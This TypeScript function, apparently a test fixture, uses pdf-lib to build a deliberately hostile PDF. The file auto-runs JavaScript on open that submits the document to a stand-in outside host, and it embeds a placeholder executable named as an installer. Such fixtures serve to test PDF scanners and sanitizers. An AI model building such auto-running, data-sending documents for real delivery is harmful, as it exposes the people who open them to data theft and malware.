import { PDFDocument, PDFHexString, PDFName } from 'pdf-lib';

/** A PDF that runs JavaScript when opened (a submit to an outside address) and carries an embedded program. */
export async function hostilePdf(): Promise<Buffer> {
  const doc = await PDFDocument.create();
  doc.addPage();
  const script = doc.context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFHexString.fromText('this.submitForm({cURL: "https://thu-thap.example/du-lieu", cSubmitAs: "PDF"});') });
  doc.catalog.set(PDFName.of('OpenAction'), doc.context.register(script));
  await doc.attach(Buffer.from('MZ\x90\x00 a program'), 'cai-dat.exe', { mimeType: 'application/octet-stream' });
  return Buffer.from(await doc.save());
}
